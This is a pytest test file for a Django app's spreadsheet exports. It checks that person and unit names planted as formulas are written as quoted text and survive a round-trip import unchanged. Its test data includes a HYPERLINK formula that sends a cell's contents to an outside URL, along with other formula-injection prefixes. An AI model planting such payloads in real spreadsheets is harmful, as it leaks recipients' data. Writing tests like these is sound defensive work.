"""Formula injection (issue #14, item 6): a person and a unit named as a formula are written as text in every .xlsx
the system hands out, and an export imported again gives back the same names."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ptdv.admission.models import Dossier
from ptdv.core.spreadsheets import is_formula_like, safe_row
from ptdv.exchange.services import import_file
from ptdv.people.models import Person
from ptdv.units.models import Unit

from .test_export import data  # noqa: F401 — the fixture

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://x?x="&D2,"a")'
OTHERS = ["+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@pytest.fixture
def poisoned(data):  # noqa: F811
    """A cell and the persons of the pool and of the roll named as formulas."""
    Unit.objects.filter(code="P.B.U.1").update(name=EVIL)
    Person.objects.filter(citizen_id="001301000123").update(full_name=EVIL)
    Person.objects.filter(citizen_id="001080000011").update(full_name=EVIL)
    person = Person.objects.get(citizen_id="079099000456")
    Dossier.objects.create(person=person, unit=person.unit, stage="application", opened_on=datetime.date(2026, 3, 1))
    Person.objects.filter(pk=person.pk).update(full_name="-" + EVIL)
    return data


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


DOWNLOADS = {
    "units": ("exchange:export", ["units"], {}),
    "people": ("exchange:export", ["people"], {}),
    "members": ("exchange:export", ["members"], {}),
    "quotas": ("exchange:export", ["quotas"], {}),
    "dossiers": ("exchange:export", ["dossiers"], {}),
    "pool": ("people:pool", [], {"format": "xlsx"}),
    "report": ("reports:export", ["xlsx"], {"unit": "P.B.U", "period": "year", "year": "2026"}),
    "template-people": ("exchange:template", ["people"], {}),
}
EXPECTED = {
    "units": {EVIL},
    "people": {EVIL},
    "members": {EVIL},
    "dossiers": {"-" + EVIL},
    "pool": {EVIL},
    "report": {EVIL},
}


@pytest.mark.parametrize("download", DOWNLOADS)
def test_no_export_writes_a_formula(client, poisoned, make_user, download):
    name, args, query = DOWNLOADS[download]
    client.force_login(make_user(poisoned.province, "staff"))
    response = client.get(reverse(name, args=args), query)
    assert response.status_code == 200, response.content[:300]
    cells = _cells(response.content)
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert EXPECTED.get(download, set()) <= texts
    for cell in cells:
        if is_formula_like(cell.value):  # written as Excel writes a cell typed with a leading apostrophe
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


@pytest.mark.parametrize("kind", ["units", "people", "members"])
def test_a_poisoned_export_imported_again_changes_nothing(client, poisoned, make_user, kind):
    client.force_login(make_user(poisoned.province, "staff"))
    response = client.get(reverse("exchange:export", args=[kind]))
    result = import_file(actor=None, kind=kind, file=io.BytesIO(response.content))
    assert result.ok, result.error_lines()
    assert result.created == result.updated == 0
    assert Unit.objects.get(code="P.B.U.1").name == EVIL
    assert Person.objects.get(citizen_id="001301000123").full_name == EVIL


def test_the_writers_helper_keeps_values_and_plain_rows():
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    plain = ["Nguyễn Văn An", 3, None, "12/12"]
    assert safe_row(sheet, plain) == plain  # nothing to escape: the row as it was (fast path)
    cells = safe_row(sheet, [EVIL, *OTHERS, 5, "a=b"])
    assert [cell.value for cell in cells] == [EVIL, *OTHERS, 5, "a=b"]
    assert [cell.data_type for cell in cells] == ["s"] * 6 + ["n", "s"]
    sheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(buffer).worksheets[0].iter_rows())
    assert [cell.value for cell in row] == [EVIL, *OTHERS, 5, "a=b"]
    assert [cell.data_type for cell in row][:6] == ["s"] * 6 and all(cell.quotePrefix for cell in row[:6])
